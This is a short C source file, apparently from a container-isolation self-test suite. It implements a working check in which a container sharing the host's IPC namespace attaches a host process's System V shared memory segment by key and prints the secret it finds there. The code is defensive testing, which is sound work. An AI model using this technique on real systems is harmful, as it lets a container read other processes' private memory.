/* Reading a host process's System V shared memory: SysV IPC objects
 * belong to an IPC namespace, so a container that shares the host's
 * (docker run --ipc=host) attaches any segment it can name by key, e.g.
 * a database's or an X server's (https://docs.docker.com/engine/containers/run/#ipc-settings-ipc
 * warns of it). The runner creates a segment holding its secret under
 * key SELFTEST_SHM_KEY; the attack attaches it and prints what it reads. */
#include "attack.h"

#include <sys/shm.h>

int attack_host_ipc_shm(void) {
    key_t key = (key_t)atol(need_env("SELFTEST_SHM_KEY"));
    int id = shmget(key, 0, 0);
    if (id < 0)
        BLOCKED_ERRNO("shmget(the host segment's key)");
    const char *p = shmat(id, NULL, SHM_RDONLY);
    if (p == (const char *)-1)
        BLOCKED_ERRNO("shmat(the host segment)");
    printf("LEAK %.64s\n", p);
    WORKED("attached a host process's shared memory segment");
}
